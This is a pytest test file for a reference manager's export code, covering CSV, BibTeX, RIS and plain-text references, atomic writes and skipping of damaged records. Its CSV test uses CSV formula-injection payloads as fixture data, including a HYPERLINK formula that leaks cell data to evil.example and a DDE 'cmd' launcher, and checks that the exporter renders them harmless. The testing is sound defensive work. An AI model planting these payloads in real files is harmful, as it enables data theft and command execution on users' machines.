"""Exports that are safe to open: no formulas in CSV cells, authors never
split at an "and", the file written whole or not at all, a damaged paper
skipped with its reason while the others are written, and plain-text
references that never turn escaped text into tags."""

import csv
import io
import json
import os

import bibtexparser
import pytest

from exodesk.export import (
    EXPORTERS,
    ExportError,
    export_file,
    export_papers,
    write_atomically,
)
from exodesk.export.cite import format_references
from exodesk.model import Author, Paper
from export.test_round_trip import reimport


def test_csv_cells_that_a_spreadsheet_would_run_are_text():
    hostile = Paper(
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        authors=[Author(literal="+cmd|' /C calc'!A0"), Author(family="-2+3", given="@SUM(1+1)")],
        journal="@SUM(A1:A9)", volume="-5", issue="\t=1+2", pages="\r=1+2",
        keywords=["exosomes; =1+2", "wound"], publisher="Safe & sound",
    )
    text = EXPORTERS["csv"]([hostile])
    (row,) = list(csv.DictReader(io.StringIO(text[1:])))
    assert row["title"] == "'" + hostile.title
    assert row["authors"] == "'+cmd|' /C calc'!A0; -2+3 @SUM(1+1)"
    assert (row["journal"], row["volume"], row["issue"], row["pages"]) == ("'@SUM(A1:A9)", "'-5", "'\t=1+2", "'\r=1+2")
    assert row["keywords"] == "exosomes; =1+2; wound" and row["publisher"] == "Safe & sound"
    # Every cell quoted: where a locale splits cells at ";", "=1+2" stays inside its cell.
    data_line = text[1:].split("\r\n")[1]
    assert data_line.startswith('"\'=HYPERLINK(') and '"exosomes; =1+2; wound"' in data_line


NAMES = [
    Author(literal="Johnson and Johnson"),
    Author(family="Smith", given="Ann and Bob"),
    Author(family="SMITH AND WESSON"),
    Author(family="Wang", given="And"),
    Author(family="Anderson", given="Sandy"),
    Author(family="O, Brien", given="Kai"),
]


def test_bibtex_authors_with_and_in_their_names_are_not_split():
    paper = Paper(title="Exosomes in dermatology", authors=NAMES, date="2024")
    text = EXPORTERS["bibtex"]([paper])
    (entry,) = bibtexparser.parse_string(text).entries
    from bibtexparser.middlewares.names import split_multiple_persons_names

    assert len(split_multiple_persons_names(entry["author"])) == len(NAMES)
    _name, (again,) = reimport(text, "bibtex")
    assert [(a.family, a.given, a.literal) for a in again.authors] == [(a.family, a.given, a.literal) for a in NAMES]


def test_an_export_is_written_whole_or_leaves_the_old_file(tmp_path, monkeypatch):
    target = tmp_path / "papers.ris"
    target.write_text("the old export\n", encoding="utf-8")

    def failing_replace(_source, _destination):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", failing_replace)
    with pytest.raises(ExportError, match=r"papers\.ris could not be written: No space left on device"):
        write_atomically(target, "TY  - JOUR\nER  - \n")
    monkeypatch.undo()
    assert target.read_text(encoding="utf-8") == "the old export\n"
    assert os.listdir(tmp_path) == ["papers.ris"]  # no temporary file left behind
    write_atomically(target, "TY  - JOUR\r\nER  - \r\n")
    assert target.read_bytes() == b"TY  - JOUR\r\nER  - \r\n"
    with pytest.raises(ExportError, match="its folder .* does not exist"):
        write_atomically(tmp_path / "missing" / "papers.ris", "x")


def stored_record(library, paper_id):
    return json.loads(library.db.execute("SELECT data FROM papers WHERE id = ?", [paper_id]).fetchone()[0])


def store_record(library, paper_id, record):
    library.db.execute("UPDATE papers SET data = ? WHERE id = ?", [json.dumps(record), paper_id])


@pytest.fixture
def library_with_damage(new_library):
    library = new_library
    ids = [library.insert_paper(Paper(title=f"Exosome paper {n}", authors=[Author("Lee", "Min")], date="2023-05"))
           for n in range(4)]
    library.db.execute("UPDATE papers SET data = '{\"title\": \"Exosome' WHERE id = ?", [ids[1]])
    store_record(library, ids[2], stored_record(library, ids[2]) | {"date": "2023-13-40"})
    return library, ids


@pytest.mark.parametrize("fmt", sorted(EXPORTERS))
def test_a_damaged_paper_is_skipped_and_named_and_the_others_are_exported(library_with_damage, fmt):
    library, ids = library_with_damage
    exported = export_papers(fmt, ids, library.get)
    reasons = {s.paper_id: s.reason for s in exported.skipped}
    assert ids[1] in reasons and reasons[ids[1]].startswith("its stored record is damaged (JSONDecodeError")
    assert "Exosome paper 0" in exported.text and "Exosome paper 3" in exported.text
    assert "Exosome paper 1" not in exported.text
    if fmt == "bibtex":  # a month macro for month 13 does not exist; the other formats carry the numbers
        assert reasons[ids[2]].startswith(f"it could not be written as {fmt}")
        assert exported.written == 2
    else:
        assert exported.written == 3
    assert exported.skipped[0].line().startswith(f"paper #{ids[1]} skipped: its stored record is damaged")


def test_a_paper_with_text_that_cannot_be_saved_is_skipped_and_the_file_written(library_with_damage, tmp_path):
    library, ids = library_with_damage
    # A lone surrogate, as a damaged page's JSON can bring: readable, but not savable as UTF-8.
    store_record(library, ids[3], stored_record(library, ids[3]) | {"title": "Exosomes \udc00 broken"})
    target = tmp_path / "out.ris"
    exported = export_file(target, "ris", ids, library.get)
    assert [s.paper_id for s in exported.skipped] == [ids[1], ids[3]]
    assert target.read_text(encoding="utf-8").count("ER  - ") == 2


def test_plain_text_references_keep_escaped_text_as_written():
    paper = Paper(title="Why &lt;b&gt; and <i>tags</i> stay text: a note", authors=[Author("Lee", "Min")],
                  journal="Skin &amp; Health", date="2021")
    assert format_references([paper]) == [
        "1. Lee M. Why &lt;b&gt; and <i>tags</i> stay text: a note. Skin &amp; Health. 2021."]
